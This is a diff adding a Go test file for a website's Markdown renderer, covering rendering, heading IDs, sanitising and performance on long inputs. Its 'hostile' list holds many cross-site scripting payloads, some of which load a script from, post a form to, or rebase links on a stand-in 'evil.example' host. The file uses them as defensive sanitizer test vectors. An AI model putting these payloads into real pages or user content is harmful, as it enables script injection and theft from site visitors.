@@ -1,0 +1,148 @@
+package site
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/net/html"
+	"pgregory.net/rapid"
+)
+
+func TestMarkdownBecomesWhatItMeans(t *testing.T) {
+	press := NewPress()
+	for markdown, want := range map[string]string{
+		"":                               "",
+		"Plain text,\nas it is & was.":   "<p>Plain text,\nas it is &amp; was.</p>",
+		"**a** *b* ~~c~~ `d`":            "<p><strong>a</strong> <em>b</em> <del>c</del> <code>d</code></p>",
+		"- a\n- b":                       "<ul>\n<li>a</li>\n<li>b</li>\n</ul>",
+		"3. a\n4. b":                     "<ol start=\"3\">\n<li>a</li>\n<li>b</li>\n</ol>",
+		"[here](/gdpr-cookies)":          `<p><a href="/gdpr-cookies">here</a></p>`,
+		"[mail](mailto:a@example.com)":   `<p><a href="mailto:a@example.com" rel="nofollow noreferrer noopener" target="_blank">mail</a></p>`,
+		"https://example.com/?a=1&b=2":   `<p><a href="https://example.com/?a=1&amp;b=2" rel="nofollow noreferrer noopener" target="_blank">https://example.com/?a=1&amp;b=2</a></p>`,
+		"![a chart](/uploads/chart.jpg)": `<p><img src="/uploads/chart.jpg" alt="a chart"></p>`,
+	} {
+		if got := press.Render(markdown).HTML; got != want {
+			t.Errorf("%q became\n%s\nwant\n%s", markdown, got, want)
+		}
+	}
+}
+
+// hostile is Markdown that wants to be more than text.
+var hostile = []string{
+	"<script>alert(1)</script>", "x <script>alert(1)</script> y", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
+	"[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](\u0001javascript:alert(1))", "[a](java\tscript:alert(1))", "[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](vbscript:x)",
+	"<javascript:alert(1)>", "![a](javascript:alert(1))", "![a](x \"onerror=alert(1)\")", "[a](x \"onclick=alert(1)\")", "[a]: javascript:alert(1)\n\n[a]",
+	"<svg onload=alert(1)>", "<iframe src=https://evil.example>", "<a href=javascript:alert(1)>x</a>", "<style>*{display:none}</style>", "<div id=root>", "</div></div><form action=//evil.example><input name=x>",
+	"<!-- --><script>alert(1)</script>", "`<script>`", "    <script>alert(1)</script>", "~~~<script>\nx\n~~~", "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |", "# <script>alert(1)</script>",
+	"<scr<script>ipt>alert(1)</scr</script>ipt>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<meta http-equiv=refresh content=0>", "<base href=//evil.example>", "<p style=\"position:fixed\">x",
+}
+
+func TestHostileMarkdownIsTextAndNothingElse(t *testing.T) {
+	press := NewPress()
+	for _, markdown := range hostile {
+		if wrong := dangerIn(press.Render(markdown).HTML); wrong != "" {
+			t.Errorf("%q has %s", markdown, wrong)
+		}
+	}
+	rapid.Check(t, func(t *rapid.T) {
+		parts := rapid.SliceOf(rapid.OneOf(rapid.SampledFrom(hostile), rapid.SampledFrom([]string{"\n", "\n\n", "> ", "- ", "# ", "*", "`", "[", "](", ")", "<", ">", "\\", "|", "&", "\x00"}), rapid.String())).Draw(t, "parts")
+		if wrong := dangerIn(press.Render(strings.Join(parts, "")).HTML); wrong != "" {
+			t.Errorf("%q has %s", parts, wrong)
+		}
+	})
+}
+
+// dangerIn is the first element, attribute or address in the HTML that a legal page may not have, or empty.
+func dangerIn(text string) string {
+	elements := " h2 h3 h4 h5 h6 p br hr strong em del code pre blockquote ul ol li table thead tbody tr th td a img "
+	attributes := " id start align href rel target src alt "
+	for tokens := html.NewTokenizer(strings.NewReader(text)); ; {
+		switch kind := tokens.Next(); kind {
+		case html.ErrorToken:
+			return ""
+		case html.CommentToken, html.DoctypeToken:
+			return "a comment or a type"
+		case html.StartTagToken, html.SelfClosingTagToken, html.EndTagToken:
+			token := tokens.Token()
+			if !strings.Contains(elements, " "+token.Data+" ") {
+				return "<" + token.Data + ">"
+			}
+			for _, a := range token.Attr {
+				if !strings.Contains(attributes, " "+a.Key+" ") || a.Key == "id" && !strings.HasPrefix(a.Val, idStart) {
+					return a.Key + "=" + a.Val
+				}
+				scheme, _, hasScheme := strings.Cut(a.Val, ":")
+				if (a.Key == "href" || a.Key == "src") && hasScheme && !strings.ContainsAny(scheme, "/?#") && scheme != "http" && scheme != "https" && scheme != "mailto" {
+					return a.Key + "=" + a.Val
+				}
+			}
+		}
+	}
+}
+
+func TestNothingOfHTMLInMarkdownIsLost(t *testing.T) {
+	press := NewPress()
+	for _, markdown := range []string{"<script>alert(1)</script>", "x <b>y</b> z", "<div>\na\n</div>", "<!-- c -->"} {
+		var shown strings.Builder
+		for tokens := html.NewTokenizer(strings.NewReader(press.Render(markdown).HTML)); ; {
+			kind := tokens.Next()
+			if kind == html.ErrorToken {
+				break
+			}
+			if kind == html.TextToken {
+				shown.WriteString(tokens.Token().Data)
+			}
+		}
+		if strings.TrimSpace(shown.String()) != markdown {
+			t.Errorf("%q is shown as %q", markdown, shown.String())
+		}
+	}
+}
+
+func TestHeadingsStandBelowTheTitleAndHaveNamesOfTheirOwn(t *testing.T) {
+	got := NewPress().Render("# State\n\n## Part *one* & `two`\n\n# State\n\n# Über uns\n\n# \n\n# state-3\n\n###### Deep")
+	want := []Heading{{"section-state", "State"}, {"section-3-state", "State"}, {"section-über-uns", "Über uns"}, {"section-part", ""}, {"section-state-3", "state-3"}}
+	if len(got.Headings) != len(want) {
+		t.Fatalf("headings: %+v", got.Headings)
+	}
+	for i, heading := range got.Headings {
+		if heading != want[i] {
+			t.Errorf("heading %d is %+v, want %+v", i, heading, want[i])
+		}
+		if strings.Count(got.HTML, ` id="`+heading.ID+`"`) != 1 {
+			t.Errorf("%s does not stand in the text once: %s", heading.ID, got.HTML)
+		}
+	}
+	if !strings.Contains(got.HTML, "<h3 id=\"section-part-one-two\">Part <em>one</em> &amp; <code>two</code></h3>") || strings.Contains(got.HTML, "<h1") || !strings.Contains(got.HTML, "<h6") {
+		t.Errorf("the text is %s", got.HTML)
+	}
+}
+
+func TestALongTextIsShownWholeAndSoon(t *testing.T) {
+	press := NewPress()
+	for name, one := range map[string]string{
+		"words": "word ", "paragraphs": "word\n\n", "quotes": ">", "lists in lists": "- ", "numbers in numbers": "1. ", "brackets": "[", "closing brackets": "](", "images": "![", "stars": "*a ", "double stars": "**a", "underscores": "_a_b", "backticks": "`a ``",
+		"entities": "&amp;", "angles": "<", "comments": "<!-- ", "scripts": "<script>", "addresses": "https://a.b ", "mail": "a@b.c ", "tables": "|a", "table rows": "|a|\n|-|\n", "tildes": "~~a~", "breaks": "\\\n", "references": "[a]: x\n", "headings": "# a\n", "same headings": "#\n",
+		"four bytes": "😀", "escapes": "\\*", "indents": "  - a\n", "fences": "```\n",
+	} {
+		text := strings.Repeat(one, maxContent/len([]rune(one)))
+		clean, err := CheckContent(text)
+		if err != nil {
+			t.Errorf("%s: %v", name, err)
+		}
+		begin := time.Now()
+		press.Render(clean)
+		if took := time.Since(begin); took > 5*time.Second {
+			t.Errorf("%s took %v", name, took)
+		} else if took > 200*time.Millisecond {
+			t.Logf("%s took %v", name, took)
+		}
+	}
+	if shown := press.Render(strings.Repeat("word ", maxContent/5)); strings.Count(shown.HTML, "word") != maxContent/5 {
+		t.Errorf("%d words are shown", strings.Count(shown.HTML, "word"))
+	}
+	if _, err := CheckContent(strings.Repeat("é", maxContent+1)); err == nil {
+		t.Error("a text that is too long was let in")
+	}
+}
